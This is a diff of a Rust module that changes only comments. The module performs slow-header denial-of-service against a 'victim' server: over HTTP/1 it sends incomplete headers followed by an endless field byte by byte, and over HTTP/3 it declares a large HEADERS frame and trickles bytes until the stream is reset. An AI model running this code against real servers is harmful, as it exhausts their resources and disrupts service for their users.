@@ -7,7 +7,7 @@ use tokio::io::AsyncWriteExt;
 use super::Force;
 use crate::wire::{H3_HEADERS, Head, h3_frame_head};
 
-/// Bytes that the slow HEADERS frame of HTTP/3 is said to have.
+/// Declared length in bytes of the slow HTTP/3 HEADERS frame.
 const ANNOUNCED: u64 = 10_000;
 
 pub(super) async fn heads(force: &Force, number: usize) -> io::Result<()> {
@@ -24,7 +24,7 @@ async fn http1(force: &Force, number: usize) -> io::Result<()> {
     let (reading, mut writing) = tokio::io::split(stream);
     let sending = async {
         let text = Head::get(force.victim.title.as_str()).http1();
-        // Without the empty line, and then one field more without an end.
+        // Without the empty line, followed by one endless field.
         for byte in text[..text.len() - 2].iter().chain(std::iter::repeat(&b'x')) {
             force.act().await;
             writing.write_all(&[*byte]).await?;
@@ -46,7 +46,7 @@ async fn http3(force: &Force, number: usize) -> io::Result<()> {
     sending.write_all(&h3_frame_head(H3_HEADERS, ANNOUNCED)).await?;
     loop {
         force.act().await;
-        // Ends when the server has reset the stream.
+        // Ends once the server has reset the stream.
         sending.write_all(b"x").await?;
     }
 }
